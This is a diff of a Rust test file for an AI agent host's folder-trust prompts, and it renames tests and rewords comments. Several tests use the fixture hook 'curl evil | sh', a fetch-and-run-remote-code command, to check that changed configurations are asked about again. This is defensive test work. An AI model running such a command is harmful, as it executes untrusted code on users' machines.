@@ -47,7 +47,7 @@ fn applied(command: &str) -> FolderConfiguration {
     FolderConfiguration::Applied { fingerprint: command.into() }
 }
 
-/// A host whose folders bring a hook.
+/// Starts a host whose folders contain a hook.
 async fn rig() -> Rig {
     rig_with(Options::default(), PermissionConfig::default()).await
 }
@@ -58,7 +58,7 @@ async fn rig_with(options: Options, permissions: PermissionConfig) -> Rig {
     rig
 }
 
-/// A new session with a message, whose agent cannot be opened before somebody decides.
+/// Creates a session with a message, whose agent is not opened before a person decides.
 async fn asked(rig: &Rig, uri: &str) -> (Listener, Question) {
     rig.create(uri);
     let mut listener = rig.listen(uri).await;
@@ -67,7 +67,7 @@ async fn asked(rig: &Rig, uri: &str) -> (Listener, Question) {
     (listener, question)
 }
 
-/// The open question of a session.
+/// The pending question of a session.
 struct Question {
     id: String,
     message: String,
@@ -118,7 +118,7 @@ async fn answer(rig: &Rig, uri: &str, question: &Question, option: &str) {
     rig.engine.dispatch(Dispatch { client_id: "person".into(), ..dispatch(uri, action) }).await;
 }
 
-/// The decision is made by the file, as another process makes it.
+/// The trust file as another process changes it.
 fn other_process(rig: &Rig) -> TrustStore {
     TrustStore::open(&rig.state, &TrustOptions::default())
 }
@@ -140,7 +140,7 @@ fn gated(gate: &Arc<dyn PermissionGate>, command: &str) -> GateDecision {
 }
 
 #[tokio::test]
-async fn a_person_is_asked_once_and_the_agent_starts_with_what_was_trusted() {
+async fn person_is_asked_once_and_the_agent_starts_with_the_trusted_configuration() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     assert_eq!(question.options, ["trust", "trust-subfolders", "restrict"]);
@@ -175,7 +175,7 @@ async fn a_person_is_asked_once_and_the_agent_starts_with_what_was_trusted() {
 }
 
 #[tokio::test]
-async fn each_answer_is_stored_as_it_is_meant() {
+async fn each_answer_stores_its_decision() {
     for (option, expected, decision) in [
         ("trust", applied("make"), TrustDecision::Trust),
         ("trust-subfolders", applied("make"), TrustDecision::TrustSubfolders),
@@ -201,7 +201,7 @@ async fn each_answer_is_stored_as_it_is_meant() {
 }
 
 #[tokio::test]
-async fn an_answer_that_names_no_option_is_refused_and_the_question_stays() {
+async fn invalid_answer_is_refused_and_the_question_stays() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     for option in [None, Some("yes")] {
@@ -215,7 +215,7 @@ async fn an_answer_that_names_no_option_is_refused_and_the_question_stays() {
 }
 
 #[tokio::test]
-async fn a_question_that_is_left_open_restricts_this_session_and_stores_nothing() {
+async fn declined_question_restricts_the_session_and_stores_nothing() {
     for response in [Cancel, Decline] {
         let mut rig = rig().await;
         let (mut listener, question) = asked(&rig, SESSION).await;
@@ -226,7 +226,7 @@ async fn a_question_that_is_left_open_restricts_this_session_and_stores_nothing(
         finish(&mut listener, &agent).await;
         assert_eq!(state(&listener), "restricted");
         assert!(rig.engine.list_trust().await.unwrap().entries.is_empty());
-        // Not asked again here, even if the configuration changes; another session asks.
+        // Not asked again in this session, even if the configuration changes; another session asks.
         rig.starts.set_workspace(hook("other"));
         rig.say(SESSION, "t2", "again").await;
         assert_eq!(agent.next_prompt().await, "again");
@@ -252,7 +252,7 @@ async fn cancelling_the_turn_withdraws_the_question_and_the_next_message_asks_ag
 }
 
 #[tokio::test]
-async fn a_host_that_dies_while_it_asks_asks_again_when_the_turn_is_resumed() {
+async fn question_is_repeated_when_the_turn_is_resumed_after_a_crash() {
     let rig = rig().await;
     let (_listener, question) = asked(&rig, SESSION).await;
     let mut rig = rig.crash().await;
@@ -271,7 +271,7 @@ async fn a_host_that_dies_while_it_asks_asks_again_when_the_turn_is_resumed() {
 }
 
 #[tokio::test]
-async fn one_answer_settles_all_sessions_that_wait_for_the_folder() {
+async fn one_answer_applies_to_all_waiting_sessions_of_the_folder() {
     let mut rig = rig().await;
     let (_first, question) = asked(&rig, SESSION).await;
     let (mut second, _) = asked(&rig, OTHER).await;
@@ -281,7 +281,7 @@ async fn one_answer_settles_all_sessions_that_wait_for_the_folder() {
     }
     second.until("session/inputNeededRemoved").await;
     let entry = loop {
-        // It is written behind what is shown.
+        // The audit entry is written after the publication.
         let audit = rig.engine.audit(OTHER, 0, 100).await.unwrap();
         match audit.into_iter().next() {
             Some(row) => break row.entry,
@@ -296,7 +296,7 @@ async fn one_answer_settles_all_sessions_that_wait_for_the_folder() {
 }
 
 #[tokio::test]
-async fn a_decision_of_another_process_or_client_withdraws_the_question() {
+async fn decision_of_another_process_or_client_withdraws_the_question() {
     let mut rig = rig().await;
     let (mut listener, _) = asked(&rig, SESSION).await;
     let store = other_process(&rig);
@@ -315,7 +315,7 @@ async fn a_decision_of_another_process_or_client_withdraws_the_question() {
 }
 
 #[tokio::test]
-async fn a_changed_configuration_closes_the_idle_agent_and_asks_with_the_difference() {
+async fn changed_configuration_closes_the_idle_agent_and_asks_with_the_difference() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     answer(&rig, SESSION, &question, "trust").await;
@@ -338,7 +338,7 @@ async fn a_changed_configuration_closes_the_idle_agent_and_asks_with_the_differe
 }
 
 #[tokio::test]
-async fn a_configuration_that_appears_later_is_asked_about_before_the_next_message() {
+async fn new_configuration_asks_before_the_next_message() {
     let mut rig = Rig::start().await;
     let (mut listener, agent) = rig.ask().await;
     assert_eq!(state(&listener), Value::Null, "a folder without configuration is not mentioned");
@@ -353,7 +353,7 @@ async fn a_configuration_that_appears_later_is_asked_about_before_the_next_messa
 }
 
 #[tokio::test]
-async fn removing_trust_takes_effect_at_the_next_message() {
+async fn removed_trust_applies_at_the_next_message() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     answer(&rig, SESSION, &question, "trust").await;
@@ -371,7 +371,7 @@ async fn removing_trust_takes_effect_at_the_next_message() {
 }
 
 #[tokio::test]
-async fn an_answer_about_a_configuration_that_has_changed_meanwhile_is_refused_and_asked_anew() {
+async fn answer_about_a_changed_configuration_is_refused_and_asked_again() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     rig.starts.set_workspace(hook("curl evil | sh"));
@@ -397,12 +397,12 @@ impl Question {
 }
 
 #[tokio::test]
-async fn a_start_that_did_not_apply_what_was_trusted_is_asked_about_before_the_message() {
+async fn start_without_the_trusted_configuration_asks_before_the_message() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     answer(&rig, SESSION, &question, "trust").await;
     let start = rig.starts.next_start().await;
-    // The files change after they were assessed: the driver starts without them and says so.
+    // The files change after the assessment: the driver starts without them and reports it.
     rig.starts.set_workspace(hook("curl evil | sh"));
     let gate = Arc::clone(&start.spec.permission_gate);
     let agent = start.succeed_with_configuration(Vec::new(), false);
@@ -414,11 +414,11 @@ async fn a_start_that_did_not_apply_what_was_trusted_is_asked_about_before_the_m
 }
 
 #[tokio::test]
-async fn a_start_that_did_not_apply_what_is_trusted_again_is_repeated() {
+async fn start_is_repeated_if_the_trusted_configuration_was_not_applied() {
     let mut rig = rig().await;
     let (_listener, question) = asked(&rig, SESSION).await;
     answer(&rig, SESSION, &question, "trust").await;
-    // The files were others for a moment.
+    // The files were different for a moment.
     rig.starts.next_start().await.succeed_with_configuration(Vec::new(), false).wait_closed().await;
     let start = rig.starts.next_start().await;
     assert_eq!(start.spec.folder_configuration, applied("make"));
@@ -427,7 +427,7 @@ async fn a_start_that_did_not_apply_what_is_trusted_again_is_repeated() {
 }
 
 #[tokio::test]
-async fn a_decision_during_a_start_counts_before_the_message() {
+async fn decision_during_a_start_applies_before_the_message() {
     let mut rig = rig().await;
     let (mut listener, question) = asked(&rig, SESSION).await;
     answer(&rig, SESSION, &question, "trust").await;
@@ -439,7 +439,7 @@ async fn a_decision_during_a_start_counts_before_the_message() {
 }
 
 #[tokio::test]
-async fn the_rules_of_a_folder_count_only_when_it_is_trusted() {
+async fn folder_rules_apply_only_when_trusted() {
     for (option, make, ls) in [
         ("restrict", GateDecision::Ask, GateDecision::Allow),
         ("trust", GateDecision::Allow, GateDecision::Deny(String::new())),
@@ -466,7 +466,7 @@ async fn the_rules_of_a_folder_count_only_when_it_is_trusted() {
 }
 
 #[tokio::test]
-async fn a_host_without_people_never_trusts() {
+async fn unattended_host_never_trusts() {
     for answer in [UnattendedAnswer::Allow, UnattendedAnswer::Deny("no".into())] {
         let permissions =
             PermissionConfig { unattended: UnattendedPolicy::Answer(answer), ..PermissionConfig::default() };
@@ -485,7 +485,7 @@ async fn a_host_without_people_never_trusts() {
 }
 
 #[tokio::test]
-async fn folders_of_the_host_s_configuration_are_trusted_without_a_question() {
+async fn folders_in_the_host_configuration_are_trusted_without_a_question() {
     let dir = tempfile::tempdir().unwrap();
     let trust = TrustOptions { trusted_folders: vec![dir.path().to_owned()], home: None };
     let mut rig = rig_with(Options { trust, ..Options::default() }, PermissionConfig::default()).await;
@@ -499,7 +499,7 @@ async fn folders_of_the_host_s_configuration_are_trusted_without_a_question() {
 }
 
 #[tokio::test]
-async fn home_is_never_asked_about() {
+async fn home_directory_is_never_asked_about() {
     let home = tempfile::tempdir().unwrap();
     let trust = TrustOptions { trusted_folders: Vec::new(), home: Some(home.path().to_owned()) };
     let mut rig = rig_with(Options { trust, ..Options::default() }, PermissionConfig::default()).await;
@@ -513,7 +513,7 @@ async fn home_is_never_asked_about() {
 }
 
 #[tokio::test]
-async fn what_a_subfolder_inherits_is_asked_about_when_it_changes() {
+async fn changed_inherited_configuration_asks_again() {
     let mut rig = rig().await;
     let top = rig.work.clone();
     rig.engine.set_trust(top.to_str().unwrap(), None, TrustDecision::TrustSubfolders, "make").await.unwrap();
@@ -534,12 +534,12 @@ async fn what_a_subfolder_inherits_is_asked_about_when_it_changes() {
 }
 
 #[tokio::test]
-async fn nothing_is_opened_ahead_where_somebody_has_to_be_asked() {
+async fn no_agent_is_prewarmed_while_trust_is_undecided() {
     let fleet = AgentPoolConfig { prewarm: true, ..AgentPoolConfig::default() };
     let mut rig = rig_with(Options { fleet, ..Options::default() }, PermissionConfig::default()).await;
     rig.create(SESSION);
     let mut listener = rig.listen(SESSION).await;
-    // It may have been known before the listener was there.
+    // The state may have been published before the client subscribed.
     if state(&listener) == Value::Null {
         listener.until("session/metaChanged").await;
     }
@@ -555,7 +555,7 @@ async fn nothing_is_opened_ahead_where_somebody_has_to_be_asked() {
     let start = rig.starts.next_start().await;
     assert_eq!(start.spec.folder_configuration, applied("make"), "what is trusted is opened ahead");
     let mut warm = start.succeed();
-    // It is assessed again before it gets its first message.
+    // The folder is assessed again before the agent gets its first message.
     rig.starts.set_workspace(hook("curl evil | sh"));
     while rig.engine.agents().is_empty() {
         tokio::task::yield_now().await;
@@ -567,7 +567,7 @@ async fn nothing_is_opened_ahead_where_somebody_has_to_be_asked() {
 }
 
 #[tokio::test]
-async fn a_session_that_waits_for_a_decision_keeps_no_seat() {
+async fn session_that_waits_for_a_decision_uses_no_slot() {
     let fleet = AgentPoolConfig {
         limits: AgentPoolLimits { max_agents: 1, ..AgentPoolLimits::default() },
         ..AgentPoolConfig::default()
@@ -588,7 +588,7 @@ async fn a_session_that_waits_for_a_decision_keeps_no_seat() {
 }
 
 #[tokio::test]
-async fn a_file_of_decisions_that_cannot_be_read_restricts_with_the_reason() {
+async fn unreadable_trust_file_restricts_with_a_reason() {
     let mut rig = rig().await;
     std::fs::write(rig.state.join("trust.toml"), "folder = nonsense").unwrap();
     rig.create(SESSION);
@@ -607,7 +607,7 @@ async fn a_file_of_decisions_that_cannot_be_read_restricts_with_the_reason() {
 }
 
 #[tokio::test]
-async fn a_folder_that_is_not_there_is_an_error_of_the_request() {
+async fn missing_folder_is_a_request_error() {
     let rig = rig().await;
     let missing = rig.work.join("missing");
     let error = rig.engine.check_trust(missing.to_str().unwrap(), None).await.unwrap_err();
